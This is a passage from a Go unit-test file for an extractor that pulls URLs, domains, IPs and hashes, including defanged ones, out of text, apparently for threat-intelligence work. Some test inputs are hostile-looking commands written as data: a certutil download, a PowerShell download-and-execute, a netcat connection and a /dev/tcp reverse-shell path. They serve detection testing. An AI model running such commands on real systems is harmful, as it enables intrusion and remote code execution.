		{"'http://a.com/x'", "url http://a.com/x"},
		{"xhttp://a.com/x", "domain a.com"},
		{"ldap://a.com/x", "domain a.com"},
		{"http://", ""},
		{"://://://", ""},
		{"src=203.0.113.7:443 dst=10.0.0.1", "ip 203.0.113.7 + ip private 10.0.0.1"},
		{"203.0.113.0/24", "ip 203.0.113.0"},
		{"version 1.2.3 and 1.2.3.4.5", ""},
		{"[2001:db8::1]:443 and 2001:db8::2, ::1 (fe80::1%eth0) 2001:db8::3.", "ip 2001:db8::1 + ip 2001:db8::2 + ip private ::1 + ip private fe80::1 + ip 2001:db8::3"},
		{"2001:db8::4:", "ip 2001:db8::4"},
		{"::ffff:203.0.113.7", "ip 203.0.113.7"},
		{"at 12:30:45 std::string abc::def 00:11:22:33:44:55", ""},
		{"md5 " + md5 + ", SHA256:" + strings.ToUpper(sha256) + "=" + sha1, "hash " + md5 + " + hash " + sha256 + " + hash " + sha1},
		{md5 + "0 x" + md5 + " " + strings.Repeat("0", 32), ""},
		{"mail to john.me@example.com now", "domain example.com"},
		{"john.me[@]example.com john.me[at]example.org", "domain example.com + domain example.org"},
		{"<john@example[.]com>", "domain example.com"},
		{"opened C:\\Users\\x.com and /usr/lib/python3.py /a/b.com", ""},
		{"\\\\files.example.com\\share //cdn.example.com/x", "domain files.example.com + domain cdn.example.com"},
		{"ran install.sh, main.py, README.md, payload.zip, lib.rs", ""},
		{"but install[.]sh and www.install.sh", "domain install.sh + domain www.install.sh"},
		{"report.pdf cmd.exe user.name.json a.notatld", ""},
		{"com co.uk example.co.uk foo.github.io", "domain example.co.uk + domain foo.github.io"},
		{"bücher.de is пример.рф", "domain xn--bcher-kva.de + domain xn--e1afmkfd.xn--p1ai"},
		{"dc01.corp printer.local localhost _ldap._tcp.example.com", ""},
		{"www.allowed.com", "domain allow_listed www.allowed.com"},
		{"a.com a.com", "domain a.com + domain a.com"},
		{"e.g.this i.e. etc.", ""},

		// What a sentence puts around them.
		{"(http://a.com/x) [http://b.com/y] {http://c.com/z} \"http://d.com\" 'http://e.com/'", "url http://a.com/x + url http://b.com/y + url http://c.com/z + url http://d.com/ + url http://e.com/"},
		{"http://a.com/x. http://b.com/y, http://c.com/z! http://d.com/?; http://e.com/w:", "url http://a.com/x + url http://b.com/y + url http://c.com/z + url http://d.com/ + url http://e.com/w"},
		{"“http://a.com/x” «b.com» ‘203.0.113.7’ „c.com“ d.com… 203.0.113.8–203.0.113.9", "url http://a.com/x + domain b.com + ip 203.0.113.7 + domain c.com + domain d.com + ip 203.0.113.8 + ip 203.0.113.9"},
		{"a.com\u00a0b.com\u3000c.com\u2028d.com\u200be.com", "domain a.com + domain b.com + domain c.com + domain d.com + domain e.com"},
		{"http://a.com\u00a0http://b.com", "url http://a.com/ + url http://b.com/"},
		{"见http://a.com/x。然后访问evil.com，从203.0.113.7来的" + md5 + "的", "url http://a.com/x + domain evil.com + ip 203.0.113.7 + hash " + md5},
		{"例え.com 한국.com", "domain xn--r8jz45g.com + domain xn--3e0b707e.com"},
		{"http://i❤.example.com/😀x http://a.com/日本（x） http://b.com/l·l，", "url http://xn--i-7iq.example.com/%F0%9F%98%80x + url http://a.com/%E6%97%A5%E6%9C%AC + url http://b.com/l%C2%B7l"},
		{"*a.com* _b.com_ `c.com` ~d.com~ #e.com $f.com", "domain a.com + domain b.com + domain c.com + domain d.com + domain e.com + domain f.com"},
		{"a.com/b.com?c=d.com&e=f.com", "domain a.com + domain d.com + domain f.com"},

		// Defanged in all ways.
		{"hxxps[:]//a[.]com/x hXXp://b[dot]com h**p://c(.)com fxp://d{.}com http[:]//e.com/", "url https://a.com/x + url http://b.com/ + url http://c.com/ + url ftp://d.com/ + url http://e.com/"},
		{"1.2.3[.]4 1[.]2[.]3[.]5 1(.)2.3.6 2001:db8[:]:7", "ip 1.2.3.4 + ip 1.2.3.5 + ip 1.2.3.6 + ip 2001:db8::7"},
		{"hxxp://3405803783/x http://0x7f.1/", "url http://203.0.113.7/x + url private http://127.0.0.1/"},

		// Hashes in longer digits, and what looks like one.
		{md5 + md5, "hash " + md5 + md5},
		{sha1 + md5 + " 0x" + md5 + " " + md5[:31] + " {" + md5 + "} " + md5[:8] + "-" + md5[8:12] + "-" + md5[12:16] + "-" + md5[16:20] + "-" + md5[20:], "hash " + md5},
		{"sha512:" + sha256 + sha256 + " md5=" + md5 + ";sha1=" + sha1, "hash " + md5 + " + hash " + sha1},

		// Files, versions, times.
		{"cmd.exe kernel32.dll a.tar.gz README.md main.rs setup.py x.so.6 notes.txt C:\\a\\b.com .\\c.net ./d.org ~/e.com", ""},
		{"version 1.2.3.4, Version: 1.2.3.5 v1.2.3.6 os_version=1.2.3.7 FileVersion: 10.0.2.1 user-version:1.2.3.8 1.2.3", ""},
		{"net use \\\\a.com@SSL\\DavWWWRoot\\b.com \\\\203.0.113.7@8080\\x x.com@SSL", "domain a.com + ip 203.0.113.7"},
		{"certutil -urlcache -f http://a.com/x.exe x.exe & ssh root@b.com; scp c.com:/etc/d.com . ; powershell iwr('http://e.com/f.ps1')|iex", "url http://a.com/x.exe + domain b.com + domain c.com + url http://e.com/f.ps1"},
		{"nc -v 203.0.113.7 4444; curl -v 203.0.113.8; conversion 203.0.113.9", "ip 203.0.113.7 + ip 203.0.113.8 + ip 203.0.113.9"},
		{"versions 1.2.3.4; version of 1.2.3.5; version, 1.2.3", "ip 1.2.3.4 + ip 1.2.3.5"},
		{"version http://a.com 1.2.3.4", "url http://a.com/ + ip 1.2.3.4"},
		{"Chrome/91.0.4472.124 Safari/537.36 curl/8.5.0 nginx/1.18.0", ""},
		{"/dev/tcp/203.0.113.7/4444 udp/203.0.113.8", "ip 203.0.113.7 + ip 203.0.113.8"},
		{"2026-01-02T03:04:05.678Z 02.01.2026 03:04:05,678 1767323045.678 20260102.030405", ""},
		{"+49.30.123456 12.345.678,90 1.000.000 0.0.0.0/0 255.255.255.0", "ip reserved 0.0.0.0 + ip reserved 255.255.255.0"},
		{"std::vector<int>::push_back a::b::c ::1 1:2 fe80:: dead::beef 12:34:56:78:9a:bc", "ip private ::1 + ip private fe80::"},
		{"[2001:db8::1]:8443, 2001:db8::2/64; (2001:db8::3) 2001:db8::4%eth0 ::ffff:203.0.113.7:443", "ip 2001:db8::1 + ip 2001:db8::2 + ip 2001:db8::3 + ip 2001:db8::4 + ip 203.0.113.7"},
		{"user@a.com <x@b.com> mailto:y@c.com z+w@d.com @e.com", "domain a.com + domain b.com + domain c.com + domain d.com + domain e.com"},
		{"http://user:pw@a.com:8080/x?y#z ftp://b.com", "url http://a.com:8080/x?y -user info, fragment + url ftp://b.com/"},
		{"type:  5 b.com;::ffff:203.0.113.9;203.0.113.10;2001:db8::5;", "domain b.com + ip 203.0.113.9 + ip 203.0.113.10 + ip 2001:db8::5"},
		{"8.8.4.4:53 a.com:443", "ip 8.8.4.4 + domain a.com"},
		{"\x00\xff\xfe.com..example.com--", ""},
	} {
		assert.Equal(t, r.want, found(r.in), "%q", r.in)
	}
}

func TestTextStops(t *testing.T) {
	p := newParser(t, indicator.Config{})
	n := 0
	p.AppendText(nil, []byte("a.com,b.com http://c.com,http://d.com 1.2.3.4:1.2.3.5"), func(indicator.Found) bool {
		n++
		return n < 3
	})
	assert.Equal(t, 3, n)
}
